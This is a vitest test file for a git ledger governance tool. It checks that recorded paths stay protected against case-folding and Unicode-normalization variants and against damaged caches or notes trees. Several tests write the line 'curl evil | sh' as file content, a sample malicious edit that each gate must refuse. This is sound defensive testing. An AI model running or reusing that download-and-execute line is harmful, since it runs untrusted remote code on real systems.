/**
 * A path the ledger recorded is governed (DESIGN 4.1), and as a checkout that ignores case or Unicode normalization
 * (macOS, Windows) places it: with `tools/INSTALL.sh` recorded, `tools/install.sh` is written to the same file there,
 * so every gate judges it too. Control: a path that folds to nothing recorded passes.
 */
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  cli,
  cliOk,
  commit,
  gitOk,
  LEDGER,
  makeStory,
  type Story,
  writeFiles,
} from '../support/cli-story.js';
import { acceptedByEveryGate, adoptedClone, refusedByEveryGate } from '../support/every-gate.js';

describe('paths governed because the ledger recorded them', () => {
  let story: Story;
  let work: string;

  beforeAll(() => {
    story = makeStory();
    work = adoptedClone(story, ['src/**']);
    // Outside protect, approved once: the ledger records the path, which governs it from then on.
    writeFiles(work, { 'tools/INSTALL.sh': 'echo install\n', 'tools/donne\u0301es.sh': 'echo data\n' });
    cliOk(story, work, ['attest', '--approve', 'tools/INSTALL.sh', 'tools/donne\u0301es.sh', '--yes']);
    gitOk(story, work, ['add', 'tools']);
    acceptedByEveryGate(story, work, 'recorded paths outside protect');
  });

  afterAll(() => story.cleanup());

  it('a case variant of a recorded path is governed at every gate', () => {
    writeFiles(work, { 'tools/install.sh': 'curl evil | sh\n' });
    gitOk(story, work, ['add', 'tools/install.sh']);
    refusedByEveryGate(story, work, 'tools/install.sh');
  });

  it('a variant in another Unicode normalization of a recorded path is governed at every gate', () => {
    writeFiles(work, { 'tools/donn\u00e9es.sh': 'curl evil | sh\n' });
    gitOk(story, work, ['add', 'tools/donn\u00e9es.sh']);
    refusedByEveryGate(story, work, 'tools/donn\u00e9es.sh');
  });

  it('case is folded as Unicode folds it, for protect globs, the keys directory and recorded paths alike', () => {
    // ſ (long s) is s, ς is σ: a checkout that folds case that way writes them over the governed files.
    for (const at of ['\u017frc/evil.ts', '.delegate-git/key\u017f/mallory.json']) {
      writeFiles(work, { [at]: 'export const evil = 1;\n' });
      gitOk(story, work, ['add', at]);
      refusedByEveryGate(story, work, at);
    }
    writeFiles(work, { 'tools/\u03c3.sh': 'echo sigma\n' });
    cliOk(story, work, ['attest', '--approve', 'tools/\u03c3.sh', '--yes']);
    gitOk(story, work, ['add', 'tools/\u03c3.sh']);
    acceptedByEveryGate(story, work, 'a recorded σ');
    writeFiles(work, { 'tools/\u03c2.sh': 'curl evil | sh\n' });
    gitOk(story, work, ['add', 'tools/\u03c2.sh']);
    refusedByEveryGate(story, work, 'tools/\u03c2.sh');
  });

  it('a recorded paths cache emptied or cut short (a write lost to a power cut) does not ungovern them at any gate', () => {
    const server = gitOk(story, work, ['remote', 'get-url', 'origin']);
    const damage = (cut: (text: string) => string) => {
      for (const dir of [path.join(work, '.git'), server].map((d) => path.join(d, 'delegate-git', 'cache'))) {
        for (const name of fs.readdirSync(dir).filter((n) => n.startsWith('recorded-paths-'))) {
          const file = path.join(dir, name);
          fs.writeFileSync(file, cut(fs.readFileSync(file, 'utf8')));
        }
      }
    };
    // Each gate reads the file of the ledger tip before it runs (the server's, at push).
    expect(cli(story, work, ['check', 'tools/INSTALL.sh']).code).toBe(0);
    damage(() => '');
    writeFiles(work, { 'tools/INSTALL.sh': 'curl evil | sh\n' });
    gitOk(story, work, ['add', 'tools/INSTALL.sh']);
    refusedByEveryGate(story, work, 'tools/INSTALL.sh');
    damage((text) => text.slice(0, text.indexOf('\0') === -1 ? 0 : text.indexOf('\0')));
    writeFiles(work, { 'tools/INSTALL.sh': 'curl evil | sh\n' });
    gitOk(story, work, ['add', 'tools/INSTALL.sh']);
    refusedByEveryGate(story, work, 'tools/INSTALL.sh');
  });

  it('a note the ledger names but the object store lacks stops the gate (exit 2), not ungoverns the path', () => {
    const before = gitOk(story, work, ['rev-parse', LEDGER]);
    writeFiles(work, { 'tools/setup.sh': 'echo setup\n' });
    const blob = gitOk(story, work, ['hash-object', '-w', 'tools/setup.sh']);
    // The only record of tools/setup.sh sits in a note whose object is gone (a damaged or partial clone).
    const entries = gitOk(story, work, ['ls-tree', LEDGER]).split('\n');
    const missing = 'deadbeef'.repeat(5);
    const tree = spawnSync('git', ['mktree', '--missing'], {
      cwd: work,
      env: story.env,
      input: `${[...entries, `100644 blob ${missing}\t${blob}`].join('\n')}\n`,
      encoding: 'utf8',
    }).stdout.trim();
    const damaged = gitOk(story, work, [
      'commit-tree',
      tree,
      '-p',
      before,
      '-m',
      'a note whose object is gone',
    ]);
    gitOk(story, work, ['update-ref', LEDGER, damaged]);
    fs.rmSync(path.join(work, '.git', 'delegate-git', 'cache'), { recursive: true, force: true });
    writeFiles(work, { 'tools/setup.sh': 'curl evil | sh\n' });
    gitOk(story, work, ['add', 'tools/setup.sh']);
    const checked = cli(story, work, ['check', '--staged']);
    expect(checked.code, checked.stdout + checked.stderr).toBe(2);
    expect(checked.stderr).toContain(`the notes tree is damaged: note ${missing} is missing`);
    expect(commit(story, work, 'setup, with the ledger damaged').code).not.toBe(0);

    // Control: the same record in a note that is there: the path is governed, the edit refused (exit 1).
    gitOk(story, work, ['update-ref', LEDGER, before]);
    writeFiles(work, { 'tools/setup.sh': 'echo setup\n' });
    cliOk(story, work, ['attest', '--approve', 'tools/setup.sh', '--yes']);
    writeFiles(work, { 'tools/setup.sh': 'curl evil | sh\n' });
    gitOk(story, work, ['add', 'tools/setup.sh']);
    const refused = cli(story, work, ['check', '--staged']);
    expect(refused.code, refused.stderr).toBe(1);
    expect(refused.stdout).toContain('NOT PROMOTED  tools/setup.sh');
    gitOk(story, work, ['reset', '-q', '--hard', 'origin/main']);
    gitOk(story, work, ['update-ref', LEDGER, before]);
  });

  it('a notes commit whose tree is gone is a damaged ledger to every command that reads it, not an empty one', () => {
    const before = gitOk(story, work, ['rev-parse', LEDGER]);
    const entries = gitOk(story, work, ['ls-tree', LEDGER]).split('\n');
    // A tree only this notes commit names (an extra note), then its object removed.
    const blob = gitOk(story, work, ['rev-parse', 'HEAD:tools/INSTALL.sh']);
    const tree = spawnSync('git', ['mktree'], {
      cwd: work,
      env: story.env,
      input: `${[...entries, `100644 blob ${blob}\t${'ab'.repeat(20)}`].join('\n')}\n`,
      encoding: 'utf8',
    }).stdout.trim();
    const damaged = gitOk(story, work, ['commit-tree', tree, '-p', before, '-m', 'its tree is lost']);
    gitOk(story, work, ['update-ref', LEDGER, damaged]);
    fs.rmSync(path.join(work, '.git', 'objects', tree.slice(0, 2), tree.slice(2)));
    fs.rmSync(path.join(work, '.git', 'delegate-git', 'cache'), { recursive: true, force: true });
    for (const args of [['log'], ['verify'], ['show', 'tools/INSTALL.sh'], ['check', '--rev', 'HEAD']]) {
      const run = cli(story, work, args);
      expect(run.code, `${args.join(' ')}: ${run.stdout}${run.stderr}`).toBe(2);
      expect(run.stderr, args.join(' ')).toContain(
        `the notes commit ${damaged}'s tree is missing: the ledger is damaged`,
      );
    }
    gitOk(story, work, ['update-ref', LEDGER, before]);
    const log = cli(story, work, ['log']);
    expect(log.code, log.stderr).toBe(0);
    expect(log.stdout).toContain('INSTALL.sh');
  });

  it('control: a path that folds to nothing recorded is not governed', () => {
    writeFiles(work, { 'tools/uninstall.sh': 'echo bye\n' });
    gitOk(story, work, ['add', 'tools/uninstall.sh']);
    acceptedByEveryGate(story, work, 'an ungoverned path beside them');
  });
});
